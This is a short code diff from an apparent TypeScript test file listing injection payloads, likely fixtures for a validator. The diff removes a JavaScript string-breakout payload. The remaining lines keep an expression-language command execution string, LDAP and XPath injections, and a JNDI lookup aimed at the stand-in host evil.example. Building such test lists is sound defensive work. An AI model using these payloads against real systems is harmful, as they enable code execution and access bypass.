@@ -84,7 +84,6 @@ const INJECTIONS: readonly (readonly [string, string])[] = [
   ['an expression', '${T(java.lang.Runtime).getRuntime().exec("id")}'],
   ['a filter of a directory', '*)(uid=*))(|(uid=*'],
   ['a path of XML', "' or name()='user' or 'a'='b"],
-  ['code behind a string', "'; return true; var a='"],
   ['a lookup', '${jndi:ldap://evil.example/a}'],
 ]
 
